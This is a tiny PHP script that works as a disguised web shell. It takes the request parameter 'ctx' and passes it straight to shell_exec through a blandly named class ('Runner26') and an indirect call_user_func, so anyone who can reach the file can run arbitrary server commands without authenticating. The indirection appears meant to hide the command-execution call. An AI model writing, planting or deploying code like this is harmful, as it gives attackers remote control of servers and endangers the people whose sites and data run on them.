<?php
ob_implicit_flush();
$p = $_REQUEST['ctx'] ?? '';
class Runner26 { function go($c) { shell_exec($c); } }
call_user_func(array(new Runner26(), 'go'), $p);
